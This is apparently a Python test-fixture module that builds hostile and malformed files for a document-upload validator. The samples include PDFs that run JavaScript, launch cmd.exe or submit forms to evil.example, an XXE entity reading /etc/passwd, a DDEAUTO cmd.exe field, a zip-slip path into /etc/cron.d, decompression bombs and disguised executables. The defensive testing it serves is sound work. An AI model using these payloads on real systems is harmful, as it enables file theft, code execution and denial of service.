"""Documents that mean harm, or are broken: each made on the spot, with the code of the sentence it must get.

`HOSTILE` maps a file name to (what makes the bytes, the code). The names lie as those of such files do.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage

import pikepdf
from PIL import Image, PngImagePlugin

from tests.factories import documents
from tests.factories.compound_file import compound_file
from tests.services.clamav import eicar

Make = Callable[[], bytes]
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _pdf_with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    with pikepdf.open(io.BytesIO(documents.pdf())) as pdf:
        change(pdf)
        made = io.BytesIO()
        pdf.save(made, **options)
        return made.getvalue()


def encrypted_pdf() -> bytes:
    """A PDF that asks for a password."""
    return _pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="u"))


def pdf_with_javascript() -> bytes:
    """A PDF that runs a program when it is opened."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    return _pdf_with(change)


def pdf_with_hidden_javascript() -> bytes:
    """The same, its key written with an escape and packed into an object stream."""
    plain = pdf_with_javascript()
    with pikepdf.open(io.BytesIO(plain)) as pdf:
        made = io.BytesIO()
        pdf.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        return made.getvalue().replace(b"/JavaScript", b"/J#61vaScript")


def pdf_that_launches() -> bytes:
    """A PDF whose first page starts a program when it is shown."""

    def change(pdf: pikepdf.Pdf) -> None:
        act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=act)

    return _pdf_with(change)


def pdf_that_sends() -> bytes:
    """A PDF with a link that sends its form to somewhere."""

    def change(pdf: pikepdf.Pdf) -> None:
        act = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act)
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([note]))

    return _pdf_with(change)


def pdf_with_file_inside() -> bytes:
    """A PDF that carries another file."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["tool.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ...", filename="tool.exe")

    return _pdf_with(change)


def pdf_with_active_form() -> bytes:
    """A PDF with an XFA form."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([]), Fields=pikepdf.Array([]))

    return _pdf_with(change)


def pdf_of_20000_pages() -> bytes:
    """A PDF of a few kilobytes that says it has 20,000 pages."""
    return _with_count(20_000)


def pdf_with_pages_in_a_ring() -> bytes:
    """A PDF whose tree of pages leads back to itself."""

    def change(pdf: pikepdf.Pdf) -> None:
        pages = pdf.Root.Pages
        pages.Kids = pikepdf.Array([pages])

    return _pdf_with(change)


def _with_count(count: int) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pages.Count = count

    plain = _pdf_with(change)
    if f"/Count {count}".encode() in plain:
        return plain
    # The writer counts for itself: say it after it has written.
    old, new = b"/Count 2", f"/Count {count}".encode()
    return plain.replace(old, new, 1)


def pdf_and_archive() -> bytes:
    """A PDF that is an archive as well."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("run.js", "alert(1)")
    return documents.pdf() + made.getvalue()


def jpeg_and_page() -> bytes:
    """A JPEG whose comment is a web page."""
    picture = documents.jpeg()
    said = b"<html><script>alert(1)</script></html>"
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(said) + 2) + said + picture[2:]


def png_and_page() -> bytes:
    """A PNG with a web page behind its end."""
    return documents.png() + b"<script>alert(1)</script>"


def _png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def flood_png() -> bytes:
    """A PNG of a few bytes that says it is 30,000 dots wide and as high."""
    return _png(30_000, 30_000, zlib.compress(b"\0" * 1000))


def png_text_bomb() -> bytes:
    """A PNG whose comment unpacks to 70 megabytes."""
    made, said = io.BytesIO(), PngImagePlugin.PngInfo()
    said.add_text("Comment", "a" * 70_000_000, zip=True)
    Image.new("L", (4, 4)).save(made, "PNG", pnginfo=said)
    return made.getvalue()


def tiff_in_a_ring() -> bytes:
    """A TIFF whose last page leads back to its first."""
    picture = Image.new("1", (8, 8))
    made = io.BytesIO()
    picture.save(made, "TIFF")
    raw = bytearray(made.getvalue())
    first = struct.unpack_from("<I", raw, 4)[0]
    count = struct.unpack_from("<H", raw, first)[0]
    struct.pack_into("<I", raw, first + 2 + 12 * count, 0xFFFFFFF0)
    return bytes(raw)


def _word(change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(documents.word())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _related(kind: str, target: str, mode: str = "External") -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        tie = f'<Relationship Id="rX" Type="{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
        parts[RELATIONS] = parts[RELATIONS].replace(b"</Relationships>", tie.encode())

    return change


def _in_body(words: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[DOCUMENT] = parts[DOCUMENT].replace(b"<w:body>", b"<w:body>" + words.encode(), 1)

    return change


def _set(name: str, content: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update({name: content})


def _typed_as_macros(parts: dict[str, bytes]) -> None:
    name = "[Content_Types].xml"
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts[name] = parts[name].replace(plain, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def _with_entity(declaration: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        head, _end, body = parts[DOCUMENT].partition(b"?>")
        parts[DOCUMENT] = head + b"?>" + declaration + body.replace(b"Dear Amara", b"&x;")

    return change


LAUGHS = b'<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
DDE = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'


def docx_bomb() -> bytes:
    """A DOCX of a few hundred kilobytes that unpacks to 150 megabytes."""
    return _word(_set("word/media/image1.bmp", b"\0" * 150_000_000))


def docx_with_lying_sizes() -> bytes:
    """A DOCX whose list of contents says less than what it unpacks to."""
    raw = bytearray(_word(_set("word/media/big.bin", b"\0" * 70_000_000)))
    for at in _places(bytes(raw), struct.pack("<I", 70_000_000)):
        struct.pack_into("<I", raw, at, 1000)
    return bytes(raw)


def _places(raw: bytes, wanted: bytes) -> list[int]:
    found, at = [], raw.find(wanted)
    while at >= 0:
        found.append(at)
        at = raw.find(wanted, at + 1)
    return found


def locked_docx() -> bytes:
    """What Word writes when a document has a password."""
    return compound_file({"EncryptionInfo": b"\x04\0\x04\0" + b"x" * 60, "EncryptedPackage": b"\0" * 200})


def deep_mail() -> bytes:
    """An e-mail in an e-mail in an e-mail, forty deep."""
    inner = b"From: a@b.example\r\nSubject: s\r\n\r\nthe end"
    for level in range(40):
        border = f"b{level}".encode()
        head = b"From: a@b.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=" + border
        inner = head + b"\r\n\r\n--" + border + b"\r\nContent-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--" + border + b"--\r\n"
    return inner


def mail_with(name: str, content: bytes) -> bytes:
    """An e-mail with this attached."""
    message = EmailMessage()
    message["From"], message["Subject"] = "a@b.example", "Read this"
    message.set_content("See what is attached.")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def locked_mail() -> bytes:
    """An e-mail that is encrypted."""
    head = b"From: a@b.example\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
    return head + b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAG\r\n"


def lying_wav() -> bytes:
    """A WAV of 2 seconds that says it holds two gigabytes."""
    return b"RIFF" + struct.pack("<I", 2_000_000_000) + documents.wav()[8:]


def endless_wav() -> bytes:
    """A WAV of one dot of sound a second: a few bytes, more than 12 hours."""
    count = 60_000
    head = struct.pack("<4sIHHIIHH", b"fmt ", 16, 1, 1, 1, 1, 1, 8)
    return b"RIFF" + struct.pack("<I", count + 36) + b"WAVE" + head + b"data" + struct.pack("<I", count) + b"\x80" * count


def _cut(make: Make, share: float = 0.6) -> Make:
    def cut() -> bytes:
        whole = make()
        return whole[: int(len(whole) * share)]

    return cut


HOSTILE: dict[str, tuple[Make, str]] = {
    "encrypted.pdf": (encrypted_pdf, "locked"),
    "script.pdf": (pdf_with_javascript, "scripts"),
    "hidden-script.pdf": (pdf_with_hidden_javascript, "scripts"),
    "launch.pdf": (pdf_that_launches, "launches"),
    "sends.pdf": (pdf_that_sends, "launches"),
    "file-inside.pdf": (pdf_with_file_inside, "files_inside"),
    "xfa.pdf": (pdf_with_active_form, "scripts"),
    "20000-pages.pdf": (pdf_of_20000_pages, "too_many_pages"),
    "ring.pdf": (pdf_with_pages_in_a_ring, "broken"),
    "pdf-and-zip.pdf": (pdf_and_archive, "two_kinds"),
    "cut.pdf": (_cut(documents.pdf), "broken"),
    "head-only.pdf": (lambda: b"%PDF-1.7\n", "broken"),
    "jpeg-and-page.jpg": (jpeg_and_page, "two_kinds"),
    "png-and-page.png": (png_and_page, "two_kinds"),
    "flood.png": (flood_png, "too_many_pixels"),
    "text-bomb.png": (png_text_bomb, "broken"),
    "ring.tiff": (tiff_in_a_ring, "broken"),
    "cut.tiff": (_cut(documents.tiff), "broken"),
    "cut.jpg": (_cut(documents.jpeg), "broken"),
    "cut.png": (_cut(documents.png), "broken"),
    "bomb.docx": (docx_bomb, "unpacks"),
    "lying.docx": (docx_with_lying_sizes, "broken"),
    "xxe.docx": (lambda: _word(_with_entity(b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')), "entities"),
    "laughs.docx": (lambda: _word(_with_entity(LAUGHS)), "entities"),
    "macros.docm": (lambda: _word(_set("word/vbaProject.bin", b"x")), "macros"),
    "macros-in-disguise.docx": (lambda: _word(_typed_as_macros), "macros"),
    "template.docx": (lambda: _word(_related(f"{OFFICE}/attachedTemplate", "https://evil.example/t.dotm")), "outside_template"),
    "dde.docx": (lambda: _word(_in_body(DDE)), "outside_template"),
    "object.docx": (lambda: _word(_set("word/embeddings/oleObject1.bin", b"x")), "objects_inside"),
    "chunk.docx": (lambda: _word(_related(f"{OFFICE}/aFChunk", "chunk.html", "Internal")), "objects_inside"),
    "slip.docx": (lambda: _word(_set("../../../etc/cron.d/x", b"x")), "names_outside"),
    "cut.docx": (_cut(documents.word), "broken"),
    "locked.docx": (locked_docx, "locked"),
    "object.rtf": (lambda: rb"{\rtf1 {\object\objemb{\*\objdata 0105}} hello}", "objects_inside"),
    "template.rtf": (lambda: rb"{\rtf1{\*\template http://evil.example/t.dotm}hello}", "outside_template"),
    "cut.rtf": (_cut(documents.rtf), "broken"),
    "deep.eml": (deep_mail, "too_deep"),
    "program.eml": (lambda: mail_with("photo.jpg.exe", b"MZ"), "harmful_attachment"),
    "disguised.eml": (lambda: mail_with("photo.jpg", b"MZ\x90\x00"), "harmful_attachment"),
    "page.eml": (lambda: mail_with("invoice.html", b"<script>"), "harmful_attachment"),
    "locked.eml": (locked_mail, "locked"),
    "cut.eml": (_cut(documents.eml), "broken"),
    "cut.msg": (_cut(documents.msg), "broken"),
    "lying.wav": (lying_wav, "broken"),
    "endless.wav": (endless_wav, "too_long"),
    "cut.wav": (_cut(documents.wav), "broken"),
    "cut.m4a": (_cut(lambda: documents.recording("m4a")), "broken"),
    "noise.mp3": (lambda: b"ID3" + b"\x01" * 2000, "broken"),
    "noise.ogg": (lambda: b"OggS" + b"\x01" * 2000, "broken"),
}

# What is none of the kinds that are taken is left out, whatever its name says; `eicar` is taken, and found by the scanner.
NOT_TAKEN: dict[str, tuple[Make, str]] = {
    "empty.pdf": (lambda: b"", "empty_file"),
    "program.pdf": (lambda: b"MZ\x90\x00" + b"\0" * 100, "wrong_type"),
    "page.pdf": (lambda: b"<html><script>alert(1)</script></html>", "wrong_type"),
    "drawing.png": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "wrong_type"),
    "archive.docx": (lambda: pdf_and_archive()[len(documents.pdf()) :].replace(b"run.js", b"run.j2"), "wrong_type"),
    "old.doc": (lambda: compound_file({"WordDocument": b"x" * 100}), "wrong_type"),
    "table.csv": (lambda: b"a,b\n1,2\n", "wrong_type"),
}


def infected() -> bytes:
    """An e-mail with the test virus in it."""
    return b"From: a@b.example\r\nSubject: s\r\n\r\n" + eicar() + b"\r\n"
